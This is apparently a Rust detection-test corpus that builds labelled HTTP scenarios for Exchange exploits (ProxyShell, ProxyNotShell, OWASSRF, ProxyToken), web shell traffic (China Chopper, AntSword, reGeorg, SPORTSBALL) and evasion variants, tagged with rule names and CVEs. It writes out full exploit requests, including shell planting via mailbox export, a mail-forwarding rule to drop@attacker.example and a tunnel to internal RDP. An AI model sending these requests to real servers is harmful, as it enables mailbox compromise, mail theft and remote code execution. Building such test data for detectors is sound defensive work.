            ),
        ],
        &[PS_EMAIL_COOKIE, PL_FP_CLIENTINFO, PS_OK_SID],
        &[CVE_2021_34473],
    ));
    v.push(attack(
        "ps-ews-createitem-shell-staging",
        "ProxyShell stage 5: EWS CreateItem through /autodiscover/autodiscover.json?a=.../EWS/exchange.asmx/?X-Rps-CAT=<token>, SerializedSecurityContext for the Administrator SID, a FileAttachment holding the PST-encoded shell (§3.2 item 5, S-DMA-PS, S-H3).",
        vec![ex(
            request("POST", &format!("{}?X-Rps-CAT={}", ps_url("/EWS/exchange.asmx/"), rps_cat()), &[("User-Agent", UA_PYREQ), ("Cookie", &cookie_email), ("Content-Type", "text/xml")], format!(r#"<soap:Envelope xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xmlns:m="http://schemas.microsoft.com/exchange/services/2006/messages" xmlns:t="http://schemas.microsoft.com/exchange/services/2006/types" xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Header><t:RequestServerVersion Version="Exchange2016" /><t:SerializedSecurityContext><t:UserSid>{ADMIN_SID}</t:UserSid><t:GroupSids><t:GroupIdentifier><t:SecurityIdentifier>S-1-5-21</t:SecurityIdentifier></t:GroupIdentifier></t:GroupSids></t:SerializedSecurityContext></soap:Header><soap:Body><m:CreateItem MessageDisposition="SaveOnly"><m:Items><t:Message><t:Subject>kqpzvwxmrt</t:Subject><t:Body BodyType="HTML">hello from darkness side</t:Body><t:Attachments><t:FileAttachment><t:Name>FileAttachment.txt</t:Name><t:IsInline>false</t:IsInline><t:IsContactPhoto>false</t:IsContactPhoto><t:Content>ldZUhrdpFDnNqQbf96nf2v+CYWdUhrdpFII5hvcGqRT/gtbahqXahoI5uanf2jmp1mlU041pqRT/FIb32tld9wZUFLfTBjm5qd/aKSDTqQ2MyenapanNjL7aXPfa1hR+glSNDYIPa4L3BtapXdqCyTEhlfvWVIa3aRTZ</t:Content></t:FileAttachment></t:Attachments><t:ToRecipients><t:Mailbox><t:EmailAddress>administrator@contoso.com</t:EmailAddress></t:Mailbox></t:ToRecipients></t:Message></m:Items></m:CreateItem></soap:Body></soap:Envelope>"#).as_bytes()),
            response(200, "OK", &[("Content-Type", "text/xml; charset=utf-8")], br#"<?xml version="1.0" encoding="utf-8"?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body><m:CreateItemResponse xmlns:m="http://schemas.microsoft.com/exchange/services/2006/messages"><m:ResponseMessages><m:CreateItemResponseMessage ResponseClass="Success"><m:ResponseCode>NoError</m:ResponseCode></m:CreateItemResponseMessage></m:ResponseMessages></m:CreateItemResponse></s:Body></s:Envelope>"#),
        )],
        &[PS_EMAIL_COOKIE, PS_RPS_CAT, PS_EWS, PS_CREATEITEM],
        &[CVE_2021_34473, CVE_2021_34523],
    ));
    let to = "http://127.0.0.1:80/powershell";
    let ps_target = format!(
        "{}?X-Rps-CAT={}&PSVersion=5.1.17763.1971",
        ps_url("/powershell/"),
        rps_cat()
    );
    let psrp_h = |ct: &'static str| -> Vec<(&'static str, String)> {
        vec![
            ("User-Agent", "Python PSRP Client".to_string()),
            (
                "Cookie",
                format!("Email=autodiscover/autodiscover.json?a={PS_ID}"),
            ),
            ("Content-Type", ct.to_string()),
        ]
    };
    let hv = psrp_h("application/soap+xml;charset=UTF-8");
    let hr: Vec<(&str, &str)> = hv.iter().map(|(n, v)| (*n, v.as_str())).collect();
    v.push(attack(
        "ps-powershell-export-dmaasland",
        "ProxyShell stage 7 (dmaasland/horizon3 with pypsrp): remote PowerShell through /autodiscover/autodiscover.json?a=.../powershell/?X-Rps-CAT=...; Create shell (ResourceCreated), New-ManagementRoleAssignment -Role \"Mailbox Import Export\", New-MailboxExportRequest -FilePath \\\\localhost\\c$\\inetpub\\wwwroot\\aspnet_client\\<16>.aspx, all base64 inside PSRP (§3.2 item 7, §10.2 item 22).",
        vec![
            ex(request("POST", &ps_target, &hr, &wsman_create(to)), wsman_created_response()),
            ex(request("POST", &ps_target, &hr, &wsman_command(to, "", 3, &create_pipeline_xml("New-ManagementRoleAssignment", &[("Role", "Mailbox Import Export"), ("User", "administrator@contoso.com")], ""))), wsman_command_response()),
            ex(request("POST", &ps_target, &hr, &wsman_command(to, "", 4, &export_pipeline("\\\\localhost\\c$\\inetpub\\wwwroot\\aspnet_client\\xqzpjkvmelrfcaws.aspx"))), wsman_command_response()),
        ],
        &[PS_EMAIL_COOKIE, PS_RPS_CAT, PS_ROLE, PS_EXPORT, PS_OK_SHELL, PS_OK_BETARGET, PS_POWERSHELL, UA_PYPSRP],
        &[CVE_2021_31207, CVE_2021_34473, CVE_2021_34523],
    ));
    v.push(attack(
        "ps-powershell-export-msf-query",
        "ProxyShell stage 7, Metasploit form: /Autodiscover/autodiscover.json?a=<email>/PowerShell/?X-Rps-CAT=...&Email=Autodiscover/autodiscover.json?a=<email> (Email in the query, no cookie), export to ...\\owa\\auth\\<8-12>.aspx, chunked body (§3.1, §3.2 item 7, S-MSF-PS).",
        vec![ex(
            request_chunked("POST", &format!("/Autodiscover/autodiscover.json?a=yqrkm@xbjwe.com/PowerShell/?X-Rps-CAT={}&Email=Autodiscover/autodiscover.json?a=yqrkm@xbjwe.com", rps_cat()), &[("User-Agent", "Mozilla/5.0"), ("Content-Type", "application/soap+xml;charset=UTF-8")], &wsman_command("http://127.0.0.1:80/powershell", "", 8, &export_pipeline("\\\\EX01.contoso.local\\C$\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\rtyuiopq.aspx")), 1024),
            wsman_command_response(),
        )],
        &[PS_EMAIL_QUERY, PS_RPS_CAT, PS_EXPORT, PS_POWERSHELL, UA_BARE_MOZILLA],
        &[CVE_2021_31207, CVE_2021_34473, CVE_2021_34523],
    ));
    v.push(attack(
        "ps-shell-use-pst",
        "ProxyShell stage 8: GET /aspnet_client/<16>.aspx?exec_code=<JScript> on the mailbox-export shell; the page is a PST file (starts !BDN) with the output inside (§3.2 item 8).",
        vec![ex(
            request("GET", &format!("/aspnet_client/xqzpjkvmelrfcaws.aspx?exec_code={}", form_encode(JSCRIPT_WHOAMI)), &[("User-Agent", UA_PYREQ)], b""),
            response(200, "OK", &[("Content-Type", "text/html; charset=utf-8")], b"!BDN\xe7\x1a\x8c\x2d\x53\x4d\x00\x00\x17\x00\x01\x01nt authority\\system\r\n\x00\x00\x00\x00\x80\x00\x00\x00"),
        )],
        &[WS_JSCRIPT_QUERY, WS_ASPNET_CLIENT, WS_OK_PST],
        &[CVE_2021_31207],
    ));
    v.push(attack(
        "ps-evasion-percent-encoded",
        "ProxyShell check fully percent-encoded: autodiscover%2Ejson, %40 for @, %6dapi, %45mail=, autodiscover%2Fautodiscover.json (http.uri is decoded) (§10.2 item 17).",
        vec![ex(
            request("GET", "/autodiscover/autodiscover%2Ejson?%40evil.corp/%6dapi/nspi/?&%45mail=autodiscover%2Fautodiscover.json%3F%40evil.corp", &[("User-Agent", UA_CHROME88)], b""),
            nspi_page(false),
        )],
        &[PS_EMAIL_QUERY, PS_NSPI, PS_OK_NSPI],
        &[CVE_2021_34473],
    ));
    v.push(attack(
        "ps-evasion-uppercase-backslash-ews",
        "Udyz proxyshell-auto FQDN lookup, upper-cased and with backslashes: \\AUTODISCOVER\\AUTODISCOVER.JSON?@evil.corp/EWS/Exchange.asmx?&EMAIL=AUTODISCOVER/AUTODISCOVER.JSON%3F@evil.corp; the answer carries X-CalculatedBETarget (§2.1, §10.2 items 17-19, S-UDYZ-PS).",
        vec![ex(
            request("GET", "\\AUTODISCOVER\\AUTODISCOVER.JSON?@evil.corp/EWS/Exchange.asmx?&EMAIL=AUTODISCOVER/AUTODISCOVER.JSON%3F@evil.corp", &[("User-Agent", UA_CHROME88), ("Cookie", "PrivateComputer=true; ClientID=A1B2C3D4E5F6; X-OWA-JS-PSD=1")], b""),
            response(400, "Bad Request", &[("Content-Type", "text/xml"), ("X-CalculatedBETarget", "ex01.contoso.local")], b"<s:Envelope/>"),
        )],
        &[PS_EMAIL_QUERY, PS_EWS, PS_OK_BETARGET],
        &[CVE_2021_34473],
    ));
    v.push(attack(
        "ps-nuclei-owa-probe",
        "nuclei CVE-2021-34473 / Nessus-style probe: /autodiscover/autodiscover.json?@test.com/owa/?&Email=autodiscover/autodiscover.json%3F@test.com; the back-end OWA answers OwaADUserNotFoundException (§3.1, §3.3, §10.2 item 20, S-NUC).",
        vec![ex(
            request("GET", "/autodiscover/autodiscover.json?@test.com/owa/?&Email=autodiscover/autodiscover.json%3F@test.com", &[("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/91.0.4472.124 Safari/537.36")], b""),
            response(500, "Internal Server Error", &[("Content-Type", "text/html; charset=utf-8")], b"<html><body><div>X-OWA-Error: Microsoft.Exchange.Clients.Owa2.Server.Core.OwaADUserNotFoundException</div></body></html>"),
        )],
        &[PS_EMAIL_QUERY, PS_OK_OWA],
        &[CVE_2021_34473],
    ));
    v.push(attack(
        "ps-patched-server-401",
        "ProxyShell check against a patched server: 401 with X-CalculatedBETarget, so no success rule fires (§3.3).",
        vec![ex(
            request("GET", "/autodiscover/autodiscover.json?@foo.com/mapi/nspi/?&Email=autodiscover/autodiscover.json%3f@foo.com", &[("User-Agent", UA_CHROME88)], b""),
            response(401, "Unauthorized", &[("WWW-Authenticate", "Negotiate"), ("WWW-Authenticate", "NTLM"), ("X-CalculatedBETarget", "ex01.contoso.local")], b""),
        )],
        &[PS_EMAIL_QUERY, PS_NSPI],
        &[CVE_2021_34473],
    ));

    // --- ProxyNotShell / OWASSRF (§4) ---
    // `pad` shifts the XML by 0-2 bytes so the scenarios cover all three base64 alignments.
    let gadget = |pad: usize| {
        create_pipeline_xml(
            "New-OfflineAddressBook",
            &[("ErrorAction", &"x".repeat(pad))],
            &gadget_arg_xml(),
        )
    };
    v.push(attack(
        "pns-zdi-basic-auth",
        "ProxyNotShell (ZDI write-up): GET /autodiscover/autodiscover.json?@zdi/PowerShell?serializationLevel=Full;...;PSVersion=5.1.17763.592&Email=autodiscover/autodiscover.json%3F@zdi with Basic credentials of any mailbox user (§4.1, S-ZDI-PNS).",
        vec![ex(
            request("GET", "/autodiscover/autodiscover.json?@zdi/PowerShell?serializationLevel=Full;ExchClientVer=15.2.922.7;clientApplication=ManagementShell;TargetServer=;PSVersion=5.1.17763.592&Email=autodiscover/autodiscover.json%3F@zdi", &[("User-Agent", UA_CHROME88), ("Authorization", "Basic am9obkBjb250b3NvLmNvbTpTdW1tZXIyMDIyIQ==")], b""),
            response(200, "OK", &[("Content-Type", "application/soap+xml;charset=UTF-8"), ("X-CalculatedBETarget", "ex01.contoso.local")], b""),
        )],
        &[PNS_EMAIL_QUERY, PNS_OK_BETARGET, PNS_POWERSHELL],
        &[CVE_2022_41040],
    ));
    let pns_path = "/autodiscover/admin@localhost//powershell/autodiscover.json?x=a";
    let pns_h: [(&str, &str); 4] = [("User-Agent", UA_CHROME88), ("Cookie", "Email=autodiscover/admin@localhost"), ("Authorization", "NTLM TlRMTVNTUAADAAAAGAAYAFgAAAAYABgAcAAAAAAAAABIAAAACAAIAEgAAAAIAAgAUAAAAAAAAACIAAAANYKI4mpvaG5XUzAxpZ8WhzmcvwDeJ4Lye0Qq3Pf3cQMhVbHG"), ("Content-Type", "application/soap+xml;charset=UTF-8")];
    v.push(attack(
        "pns-testanull-gadget",
        "ProxyNotShell (testanull poc_aug3): POST /autodiscover/admin@localhost//powershell/autodiscover.json?x=a with Cookie Email=autodiscover/admin@localhost and NTLM; Create shell, then New-OfflineAddressBook whose -Identity argument carries TargetTypeForDeserialization (CVE-2022-41082) (§4.1, §4.2, S-TA-PNS).",
        vec![
            ex(request("POST", pns_path, &pns_h, &wsman_create("http://127.0.0.1:80/powershell")), wsman_created_response()),
            ex(request("POST", pns_path, &pns_h, &wsman_command("http://127.0.0.1:80/powershell", "New-OfflineAddressBook", 5, &gadget(0))), response(500, "Internal Server Error", &[("Content-Type", "application/soap+xml;charset=UTF-8")], b"")),
        ],
        &[PNS_EMAIL_COOKIE, PNS_OK_SHELL, PNS_OK_BETARGET, PNS_POWERSHELL, PNS_GADGET],
        &[CVE_2022_41040, CVE_2022_41082],
    ));
    v.push(attack(
        "pns-msf-gadget",
        "ProxyNotShell, Metasploit form: /Autodiscover/autodiscover.json?<email>/powershell with Cookie Email=Autodiscover/autodiscover.json?<email>, NTLM, gadget argument in a second alignment (§4.1, S-MSF-PNS).",
        vec![ex(
            request("POST", "/Autodiscover/autodiscover.json?xtdmf@kbhr.hjv/powershell", &[("User-Agent", "Mozilla/5.0"), ("Cookie", "Email=Autodiscover/autodiscover.json?xtdmf@kbhr.hjv"), ("Authorization", "NTLM TlRMTVNTUAADAAAAGAAYAFgAAAAYABgAcAAAAAAAAABIAAAACAAIAEgAAAAIAAgAUAAAAA=="), ("Content-Type", "application/soap+xml;charset=UTF-8")], &wsman_command("https://mail.contoso.com/powershell", "", 77, &gadget(1))),
            response(500, "Internal Server Error", &[("Content-Type", "application/soap+xml;charset=UTF-8")], b""),
        )],
        &[PNS_EMAIL_COOKIE, PNS_POWERSHELL, PNS_GADGET, UA_BARE_MOZILLA],
        &[CVE_2022_41040, CVE_2022_41082],
    ));
    v.push(attack(
        "pns-eomtv2-bypass-encoded",
        "ProxyNotShell with the encodings that bypassed the first EOMTv2 rewrite rules: %50ower%73hell, %40 for @ (§10.2 item 17, App. C.2).",
        vec![ex(
            request("GET", "/autodiscover/autodiscover.json?%40evil.com/%50ower%73hell?&Email=autodiscover/autodiscover.json%3F%40evil.com", &[("User-Agent", UA_CHROME88), ("Authorization", "Basic am9obkBjb250b3NvLmNvbTpTdW1tZXIyMDIyIQ==")], b""),
            response(401, "Unauthorized", &[("WWW-Authenticate", "Basic realm=\"mail.contoso.com\"")], b""),
        )],
        &[PNS_EMAIL_QUERY, PNS_POWERSHELL],
        &[CVE_2022_41040],
    ));
    let ow_path = "/owa/mastermailbox%40outlook.com/powershell";
    let ow_h: [(&str, &str); 5] = [
        ("User-Agent", UA_CHROME105),
        ("X-OWA-ExplicitLogonUser", "owa/mastermailbox@outlook.com"),
        ("Cookie", "ClientId=77D1A3B5C7E94F0B8A2C4E6F8A0B2C4D; cadata=Vm0wd2QyUXlVWGxWV0d4V1YwZDRWMVl3WkRSV01WbDNXa1JTVjAxV2JETlhhMUpUVmpBeFYySkVUbGhoTVVwVVZtcEJlRll5U2tWVQ; cadataTTL=NfbS1bKMA; cadataKey=qUq2a; cadataIV=Aw3mZ; cadataSig=Jr8xY; X-OWA-CANARY=p3sTq8Ux2Vy5Wz0Ab1Cc2Dd3Ee4Ff5Gg6Hh7Ii8Jj9Kk0Ll1Mm2Nn3Oo4Pp."),
        ("Content-Type", "application/soap+xml;charset=UTF-8"),
        ("Accept", "*/*"),
    ];
    v.push(attack(
        "ow-crowdstrike-owassrf",
        "OWASSRF (CrowdStrike): POST /owa/mastermailbox%40outlook.com/powershell with X-OWA-ExplicitLogonUser: owa/mastermailbox@outlook.com and OWA session cookies; Create shell, then the CVE-2022-41082 argument (§4.1, §10.2 item 23, S-CS).",
        vec![
            ex(request("POST", ow_path, &ow_h, &wsman_create("https://mail.contoso.com/powershell")), wsman_created_response()),
            ex(request("POST", ow_path, &ow_h, &wsman_command("https://mail.contoso.com/powershell", "", 11, &gadget(2))), wsman_command_response()),
        ],
        &[OW_PATH, OW_HEADER, OW_OK_SHELL, PNS_GADGET],
        &[CVE_2022_41080, CVE_2022_41082],
    ));
    v.push(attack(
        "ow-case-and-query",
        "OWASSRF with an upper-case /OWA/, PowerShell?serializationLevel=... and a lower-case header name x-owa-explicitlogonuser (§10.2 item 23).",
        vec![ex(
            request("POST", "/OWA/victim%40contoso.com/PowerShell?serializationLevel=Full;ExchClientVer=15.2.1118.7;clientApplication=ManagementShell;TargetServer=;PSVersion=5.1.17763.3770", &[("User-Agent", UA_CHROME105), ("x-owa-explicitlogonuser", "owa/victim@contoso.com"), ("Cookie", "cadata=Vm0wd2QyUXlVWGxW; cadataTTL=NfbS1bKMA"), ("Content-Type", "application/soap+xml;charset=UTF-8")], &wsman_create("https://mail.contoso.com/powershell")),
            response(500, "Internal Server Error", &[("Content-Type", "text/html")], b""),
        )],
        &[OW_PATH, OW_HEADER],
        &[CVE_2022_41080],
    ));

    // --- ProxyToken (§5) ---
    let pt_step1 = |path: &str, cookie: &str, status: u16, reason: &str| {
        ex(
            request("GET", path, &[("User-Agent", UA_CHROME88), ("Accept-Language", "zh-CN,zh;q=0.8,zh-TW;q=0.7,zh-HK;q=0.5,en-US;q=0.3,en;q=0.2"), ("Content-Type", "application/json; charset=utf-8"), ("Cookie", cookie)], b""),
            response(status, reason, &[("Content-Type", "text/html; charset=utf-8"), ("Set-Cookie", "ASP.NET_SessionId=0c9d8e7f-6a5b-4c3d-2e1f-0a9b8c7d6e5f; path=/; secure; HttpOnly"), ("Set-Cookie", &format!("msExchEcpCanary={CANARY}; path=/ecp"))], b"<html><body>Options</body></html>"),
        )
    };
    let pt_step2 = |path: &str, cookie: &str| {
        ex(
            request("POST", path, &[("User-Agent", UA_CHROME88), ("Content-Type", "application/json; charset=utf-8"), ("Cookie", cookie)], br#"{"properties":{"RedirectTo":[{"RawIdentity":"drop@attacker.example","DisplayName":"drop@attacker.example","Address":"drop@attacker.example","AddressOrigin":0,"galContactGuid":null,"RecipientFlag":0,"RoutingType":"SMTP","SMTPAddress":"drop@attacker.example"}],"Name":"Testrule","StopProcessingRules":true}}"#),
            ecp_json_ok(r#"{"d":{"__type":"RuleRowResults:ECP","Cmdlets":["New-InboxRule"],"ErrorRecords":[],"Informations":[],"IsDDIEnabled":false,"Warnings":[],"Output":[{"__type":"RuleRow:ECP","Caption":"Testrule","Name":"Testrule"}]}}"#, false),
        )
    };
    v.push(attack(
        "pt-chain-zdi",
        "ProxyToken (ZDI / proxytoken.go): GET /ecp/<mailbox>/PersonalSettings/HomePage.aspx?showhelp=false with Cookie SecurityToken=x gets an msExchEcpCanary; then POST /ecp/<victim>/RulesEditor/InboxRules.svc/Newobject?msExchEcpCanary=... creates a RedirectTo rule (§5, S-ZDI-PT).",
        vec![
            pt_step1("/ecp/drop@attacker.example/PersonalSettings/HomePage.aspx?showhelp=false", "SecurityToken=x", 200, "OK"),
            pt_step2(&format!("/ecp/ceo@contoso.com/RulesEditor/InboxRules.svc/Newobject?msExchEcpCanary={CANARY}"), &format!("SecurityToken=x; msExchEcpCanary={CANARY}")),
        ],
        &[PT_TOKEN, PT_RULE, PT_OK_CANARY, PT_OK_RULE],
        &[CVE_2021_33766],
    ));
    v.push(attack(
        "pt-evasion-case-500",
        "ProxyToken with a lower-case cookie name (securitytoken=) after other cookies, an upper-case /ECP/ path, and the 500 answer ET expects (still carrying the canary) (§5, §10.1 item 5).",
        vec![pt_step1("/ECP/ceo%40contoso.com/PersonalSettings/HomePage.aspx?showhelp=false", "PrivateComputer=true; securitytoken=AAAA", 500, "Internal Server Error")],
        &[PT_TOKEN, PT_OK_CANARY],
        &[CVE_2021_33766],
    ));
}

// ---------------------------------------------------------------------------------------------
// Web shells (§7, §8).
// ---------------------------------------------------------------------------------------------

fn webshells(v: &mut Vec<Scenario>) {
    let form = ("Content-Type", "application/x-www-form-urlencoded");
    v.push(attack(
        "ws-chopper-aspnet-client",
        "China Chopper ASPX client (caidao/Blade protocol) to /aspnet_client/system_web/shell.aspx: form-encoded Response.Write(\"->|\")...eval(...FromBase64String(...)),\"unsafe\")... with z1/z2 arguments; the answer is framed ->| ... |<- (§7.1, S-BLADE).",
        vec![ex(request("POST", "/aspnet_client/system_web/shell.aspx", &[("User-Agent", "Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)"), form], &chopper_body("z", "65001", true)), chopper_response())],
        &[WS_CHOPPER, WS_ASPNET_CLIENT, WS_KNOWN_NAME, WS_OK_CHOPPER, UA_CRAWLER_SHELL],
        &[],
    ));
    v.push(attack(
        "ws-chopper-owa-auth-gbk-raw",
        "China Chopper with code page 936 and the wrapper not form-encoded, to /owa/auth/OutlookEN.aspx (a name from the HAFNIUM lists) (§7.1, §8.2).",
        vec![ex(request("POST", "/owa/auth/OutlookEN.aspx", &[("User-Agent", UA_EDGE), form], &chopper_body("NTWcgwMz", "936", false)), chopper_response())],
        &[WS_CHOPPER, WS_KNOWN_NAME, WS_OK_CHOPPER],
        &[],
    ));
    v.push(attack(
        "ws-antsword",
        "AntSword: UA antSword/v2.1, body cmd=<the same eval/FromBase64String wrapper> to /aspnet_client/discover.aspx (§7.2, §8.1).",
        vec![ex(request("POST", "/aspnet_client/discover.aspx", &[("User-Agent", "antSword/v2.1"), form], &chopper_body("cmd", "936", true)), chopper_response())],
        &[WS_CHOPPER, WS_ASPNET_CLIENT, WS_KNOWN_NAME, WS_ANTSWORD, WS_OK_CHOPPER],
        &[],
    ));
    v.push(attack(
        "ws-chopper-path-evasion",
        "China Chopper to /ASPNET_CLIENT/%73ystem_web\\Shell.aspx (case, percent-encoding and a backslash in the shell path) (§10.3 item 25).",
        vec![ex(request("POST", "/ASPNET_CLIENT/%73ystem_web\\Shell.aspx", &[("User-Agent", UA_EDGE), form], &chopper_body("pass", "65001", true)), chopper_response())],
        &[WS_CHOPPER, WS_ASPNET_CLIENT, WS_KNOWN_NAME, WS_OK_CHOPPER],
        &[],
    ));
    v.push(attack(
        "ws-regeorg-tunnel",
        "reGeorg tunnel in /owa/auth/Current/themes/resources/: GET banner, then cmd=CONNECT, FORWARD and READ; the shell answers X-STATUS: OK (§7.4, S-REGEORG).",
        vec![
            ex(request("GET", "/owa/auth/Current/themes/resources/tunnel.aspx", &[("User-Agent", "python-urllib3/1.26.4")], b""), response(200, "OK", &[("Content-Type", "text/html")], b"Georg says, 'All seems fine'")),
            ex(request("POST", "/owa/auth/Current/themes/resources/tunnel.aspx?cmd=CONNECT&target=10.1.1.20&port=3389", &[("User-Agent", "python-urllib3/1.26.4")], b""), response(200, "OK", &[("X-STATUS", "OK"), ("Set-Cookie", "ASP.NET_SessionId=1a2b3c4d5e6f7a8b9c0d1e2f; path=/; HttpOnly")], b"")),
            ex(request("POST", "/owa/auth/Current/themes/resources/tunnel.aspx?cmd=FORWARD", &[("User-Agent", "python-urllib3/1.26.4"), ("Cookie", "ASP.NET_SessionId=1a2b3c4d5e6f7a8b9c0d1e2f"), ("Content-Type", "application/octet-stream")], b"\x03\x00\x00\x13\x0e\xe0\x00\x00\x00\x00\x00\x01\x00\x08\x00\x0b\x00\x00\x00"), response(200, "OK", &[("X-STATUS", "OK")], b"")),
            ex(request("POST", "/owa/auth/Current/themes/resources/tunnel.aspx?cmd=READ", &[("User-Agent", "python-urllib3/1.26.4"), ("Cookie", "ASP.NET_SessionId=1a2b3c4d5e6f7a8b9c0d1e2f")], b""), response(200, "OK", &[("X-STATUS", "OK"), ("Content-Type", "application/octet-stream")], b"\x03\x00\x00\x13\x0e\xd0\x00\x00\x12\x34\x00\x02\x1f\x08\x00\x08\x00\x00\x00")),
        ],
        &[WS_AUTH_FOLDER, WS_REGEORG, WS_OK_REGEORG, WS_OK_GEORG_BANNER],
        &[],
    ));
    v.push(attack(
        "ws-sportsball",
        "SPORTSBALL (Volexity): form fields sport/balls/woods/sky and the fqrspt cookie to /aspnet_client/system_web/log.aspx; the page shows <td>cmd: and the balls input (§7.3).",
        vec![ex(
            request("POST", "/aspnet_client/system_web/log.aspx", &[("User-Agent", UA_EDGE), ("Cookie", "fqrspt=ZN2aDAB4rXsszEvCLrzgcvQ4oi5J1TuiRULlQbYwldE="), form], b"sport=cmd.exe&balls=%2Fc+whoami&woods=&sky=Run"),
            response(200, "OK", &[("Content-Type", "text/html; charset=utf-8")], b"<html><body><form method=\"post\"><table><tr><td>logon:<td><input name=\"sport\" value=\"cmd.exe\"></tr><tr><td>cmd:<td><input name=\"balls\" value=\"/c whoami\"></tr><tr><td><input name=\"woods\"><input name=\"sky\" type=\"submit\"></tr></table></form><pre>nt authority\\system</pre></body></html>"),
        )],
        &[WS_ASPNET_CLIENT, WS_KNOWN_NAME, WS_SPORTSBALL_FORM, WS_SPORTSBALL_COOKIE, WS_OK_SPORTSBALL],
        &[],
    ));
    v.push(attack(
        "ws-27065-shell-get",
        "GET of a CVE-2021-27065-written shell without parameters: the page is the OAB settings text with ExternalUrl : http://f/ (script block consumed) (§2.9, CISA YARA strings).",
        vec![ex(request("GET", "/owa/auth/qhzxvbnm.aspx", &[("User-Agent", UA_CHROME88)], b""), oab_dump_response("", "http://f/"))],
        &[WS_OK_OABDUMP],
        &[CVE_2021_27065],
    ));
    v.push(attack(
        "ws-helse-shell-scan",
        "Mass scanning for planted shells (HelseCERT): RedirSuiteServerProxy.aspx, Current/themes/errorFS.aspx, Err0r.aspx, babydraco.aspx under /owa/auth/, UA with the non-existent Chrome/65.0.2345 build; all 404 (§2.9, §8.1, §8.2).",
        vec![
            ex(request("GET", "/owa/auth/RedirSuiteServerProxy.aspx", &[("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/65.0.2345 Safari/537.36")], b""), not_found()),
            ex(request("GET", "/owa/auth/Current/themes/errorFS.aspx", &[("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/65.0.2345 Safari/537.36")], b""), not_found()),
            ex(request("GET", "/owa/auth/Err0r.aspx", &[("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/65.0.2345 Safari/537.36")], b""), not_found()),
            ex(request("GET", "/owa/auth/babydraco.aspx", &[("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/65.0.2345 Safari/537.36")], b""), not_found()),
        ],
        &[WS_KNOWN_NAME, WS_AUTH_FOLDER, UA_FAKE_CHROME],
        &[],
    ));
    v.push(attack(
        "ws-ecp-auth-jscript",
        "JScript WScript.Shell command POSTed to /ecp/auth/errorPage.aspx (non-stock file in ecp\\auth, a MSTIC shell name) (§8.2).",
        vec![ex(request("POST", "/ecp/auth/errorPage.aspx", &[("User-Agent", UA_EDGE), form], format!("orangenb={}", form_encode(JSCRIPT_WHOAMI)).as_bytes()), response(200, "OK", &[("Content-Type", "text/html")], b"nt authority\\system\r\n"))],
        &[WS_JSCRIPT_BODY, WS_KNOWN_NAME, WS_AUTH_FOLDER],
        &[],
    ));
    v.push(attack(
        "ws-crawler-ua-shell",
        "A crawler user agent (Googlebot/2.1 (+http://www.googlebot.com/bot.html), CISA list) on /aspnet_client/supp0rt.aspx (§8.1, §8.2).",
        vec![ex(request("GET", "/aspnet_client/supp0rt.aspx", &[("User-Agent", "Googlebot/2.1 (+http://www.googlebot.com/bot.html)")], b""), not_found())],
        &[WS_ASPNET_CLIENT, WS_KNOWN_NAME, UA_CRAWLER_SHELL],
        &[],
    ));
}

// ---------------------------------------------------------------------------------------------
// Benign Exchange traffic.
// ---------------------------------------------------------------------------------------------

const OWA_COOKIES: &str = "ClientId=9F3B1C2D4E5A46B7A8C9D0E1F2A3B4C5; PrivateComputer=true; PBack=0; cadata=SGVsbG9Xb3JsZDEyMzQ1Njc4OTBhYmNkZWZnaGlqa2xtbm9wcXJzdHV2d3h5ejAxMjM0NTY3ODkwYWJjZGVm; cadataTTL=NfbS1bKMAV7gRZV5Q8mK1g==; cadataKey=Y2FkYXRhS2V5VmFsdWU=; cadataIV=Y2FkYXRhSVZWYWx1ZQ==; cadataSig=Y2FkYXRhU2lnVmFsdWU=; X-BackEndCookie=S-1-5-21-3145112437-2145651249-1294385417-1107=u56Lnp2ejJqBy8vIycvHz8/SzcbPzdLLxs7N0p3Nx8/Sm8nLyZ2byc3LnMbPgYHNz83O0s/H0s7Oq8/KxczLxczH; X-OWA-CANARY=p3sTq8Ux2Vy5Wz0Ab1Cc2Dd3Ee4Ff5Gg6Hh7Ii8Jj9Kk0Ll1Mm2Nn3Oo4Pp.; UC=5b0e1f2a3c4d5e6f7a8b9c0d1e2f3a4b; AppcacheVer=15.1.2176.2:en-usbase; OutlookSession=\"c3d4e5f6a7b8c9d0e1f2a3b4c5d6e7f8\"";
const OWA_CANARY: &str = "p3sTq8Ux2Vy5Wz0Ab1Cc2Dd3Ee4Ff5Gg6Hh7Ii8Jj9Kk0Ll1Mm2Nn3Oo4Pp.";

fn benign_traffic(v: &mut Vec<Scenario>) {
    let html = ("Content-Type", "text/html; charset=utf-8");
    v.push(benign(
        "bn-owa-logon-and-inbox",
        "OWA forms logon on one connection: GET /owa/ (302), logon.aspx, POST /owa/auth.owa (302 with cadata cookies), GET /owa/, then a service.svc FindItem for the inbox with X-OWA-CANARY; the user runs Chrome 88 like the testanull PoC.",
        vec![
            ex(request("GET", "/owa/", &[("User-Agent", UA_CHROME88), ("Accept", "text/html,application/xhtml+xml")], b""), response(302, "Found", &[("Location", "https://mail.contoso.com/owa/auth/logon.aspx?url=https%3a%2f%2fmail.contoso.com%2fowa%2f&reason=0"), html], b"")),
